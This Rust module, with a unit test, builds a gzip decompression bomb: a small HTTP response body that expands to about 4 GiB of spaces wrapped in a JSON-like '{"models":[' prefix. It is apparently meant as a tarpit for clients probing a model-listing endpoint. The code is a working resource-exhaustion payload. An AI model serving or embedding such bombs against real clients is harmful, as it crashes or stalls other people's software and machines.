//! Gzip that is small on the wire and holds gigabytes.
//!
//! A mebibyte of blanks is compressed once, so that its bytes depend on nothing before them; they are
//! sent over and over. Only the checksum of the whole has to be put together.

use flate2::{Compress, Compression, Crc, FlushCompress};

use super::answer::Body;

/// How often the block is sent: 4 GiB.
const TIMES: u32 = 4096;

/// The bytes of a block before compression.
const BLOCK: usize = 1 << 20;

/// `start`, gigabytes of blanks, `end`, as one gzip member; `None` when it cannot be compressed.
pub(super) fn bomb(start: &[u8], end: &[u8]) -> Option<Body> {
    // Magic, deflate, no flags, no time, no hints, unknown system.
    let mut head = vec![0x1f, 0x8b, 8, 0, 0, 0, 0, 0, 0, 0xff];
    head.extend(deflate(start, FlushCompress::Full)?);
    let blanks = vec![b' '; BLOCK];
    let again = deflate(&blanks, FlushCompress::Full)?;
    let mut tail = deflate(end, FlushCompress::Finish)?;

    let mut crc = sum(start);
    let of_blanks = sum(&blanks);
    for _ in 0..TIMES {
        crc.combine(&of_blanks);
    }
    crc.combine(&sum(end));
    tail.extend(crc.sum().to_le_bytes());
    // Counts only modulo 2³², as gzip wants it.
    tail.extend(crc.amount().to_le_bytes());
    Some(Body::Repeated {
        start: head,
        again,
        times: Some(TIMES),
        end: tail,
    })
}

fn sum(bytes: &[u8]) -> Crc {
    let mut crc = Crc::new();
    crc.update(bytes);
    crc
}

fn deflate(bytes: &[u8], flush: FlushCompress) -> Option<Vec<u8>> {
    let mut out = Vec::with_capacity(64 << 10);
    let mut compress = Compress::new(Compression::best(), false);
    compress.compress_vec(bytes, &mut out, flush).ok()?;
    (compress.total_in() == bytes.len() as u64).then_some(out)
}

#[cfg(test)]
mod tests {
    use std::io::Read;

    use super::*;

    #[test]
    fn a_smaller_number_of_blocks_would_unpack() {
        let Some(Body::Repeated {
            start, again, end, ..
        }) = bomb(b"{\"models\":[", b"]}")
        else {
            panic!()
        };
        assert!(again.len() * TIMES as usize <= 8 << 20, "{}", again.len());
        let wire = [start, again.clone(), again, end].concat();
        let mut text = String::new();
        // The checksum is of the whole, so that the last read fails here.
        let failed = flate2::read::GzDecoder::new(wire.as_slice()).read_to_string(&mut text);
        assert!(failed.is_err());
        let mut raw = Vec::new();
        flate2::read::DeflateDecoder::new(&wire[10..])
            .read_to_end(&mut raw)
            .unwrap();
        assert_eq!(raw.len(), 11 + 2 * BLOCK + 2);
        assert!(raw.starts_with(b"{\"models\":[ ") && raw.ends_with(b" ]}"));
    }
}
